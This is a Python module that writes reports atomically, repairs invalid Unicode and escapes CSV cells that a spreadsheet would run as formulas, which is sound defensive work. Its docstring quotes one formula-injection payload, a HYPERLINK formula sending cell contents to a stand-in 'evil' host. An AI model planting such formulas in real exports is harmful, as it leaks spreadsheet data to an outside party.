"""Writing reports and exports safely: atomically, as valid text, and with spreadsheet formulas defused.

- ``atomic_write(path)`` opens a fresh temporary file beside ``path`` (created with ``O_EXCL``, so a file
  planted under a predictable name is never reused), and renames it over ``path`` only once everything
  was written and flushed to disk: a failure (a lone surrogate in a reply, a full disk) leaves the
  previous report as it was and no temporary file behind.
- ``escape_formula(value)`` defuses a CSV cell that a spreadsheet would run as a formula: text that
  starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe (the
  OWASP advice). Agent replies and test cases are untrusted: ``=HYPERLINK("http://evil/?"&A1, "click")``
  in a reply must not become a live link in the reviewer's spreadsheet. Numbers are left alone.
- ``safe_frame(df, csv=...)`` applies both kinds of repair to every text cell of a DataFrame: lone
  surrogates become U+FFFD (every format), and formulas are escaped (CSV only); ``write_csv`` writes
  the repaired frame.
"""

from __future__ import annotations

import contextlib
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from giskard_nb.core.sanitize import valid_unicode, valid_unicode_data

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "atomic_write",
    "escape_formula",
    "safe_frame",
    "write_csv",
    "write_text_atomic",
]

#: What a spreadsheet reads as the start of a formula (or of a cell it re-evaluates).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _repair(value: Any, *, csv: bool) -> Any:
    if isinstance(value, str):
        value = valid_unicode(value)
        return escape_formula(value) if csv else value
    if isinstance(value, dict | list | tuple):
        return valid_unicode_data(value)
    return value


def safe_frame(df: pd.DataFrame, *, csv: bool, escape_formulas: bool = True) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are valid Unicode and, for CSV, formula-escaped (the header
    too). ``escape_formulas=False`` keeps formulas as they are (surrogates are still replaced)."""
    escape = csv and escape_formulas
    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
            out[column] = out[column].map(lambda v: _repair(v, csv=escape))
    out.columns = [_repair(c, csv=escape) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(df: pd.DataFrame, handle: IO[str], *, escape_formulas: bool = True) -> None:
    """``df`` as CSV (no index) on ``handle``, repaired by ``safe_frame``. Rows end with CRLF (RFC 4180),
    so a cell holding a bare CR is quoted too: a reader that splits rows on CR cannot turn the rest of
    the cell into a new, unescaped one."""
    safe_frame(df, csv=True, escape_formulas=escape_formulas).to_csv(
        handle, index=False, lineterminator="\r\n"
    )


@contextlib.contextmanager
def atomic_write(
    path: str | os.PathLike[str],
    *,
    binary: bool = False,
    encoding: str = "utf-8",
    newline: str | None = None,
    mode: int | None = None,
) -> Iterator[IO[Any]]:
    """A file object whose content replaces ``path`` only if the ``with`` block succeeds.

    The temporary file is created with ``O_EXCL`` in the target's folder (same file system, so the
    rename is atomic); it is fsynced before the rename and removed when anything fails. The new file
    gets the permissions a plain ``open(path, "w")`` would give (the umask's), or keeps the previous
    file's mode when it replaces one; ``mode`` sets it instead (``0o600`` for a secrets file).
    ``newline`` is ``open``'s (text mode only).
    """
    target = Path(path).expanduser()
    target.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=target.parent, prefix=f".{target.name}.", suffix=".tmp")
    try:
        text = {} if binary else {"encoding": encoding, "newline": newline}
        with os.fdopen(fd, "wb" if binary else "w", **text) as f:
            yield f
            f.flush()
            os.fsync(f.fileno())
        os.chmod(tmp, _mode_for(target) if mode is None else mode)
        os.replace(tmp, target)
    except BaseException:
        with contextlib.suppress(OSError):
            os.unlink(tmp)
        raise


def write_text_atomic(path: str | os.PathLike[str], text: str) -> Path:
    """Write ``text`` (lone surrogates replaced by U+FFFD) to ``path`` atomically; the path."""
    with atomic_write(path) as handle:
        handle.write(valid_unicode(text))
    return Path(path).expanduser()


def _mode_for(target: Path) -> int:
    try:
        return target.stat().st_mode & 0o777
    except OSError:
        return 0o666 & ~_umask()


def _umask() -> int:
    """The process umask, read without changing it (``os.umask`` would, for a moment, in every thread)."""
    with contextlib.suppress(OSError, ValueError):
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("Umask:"):
                return int(line.split()[1], 8)
    return 0o022
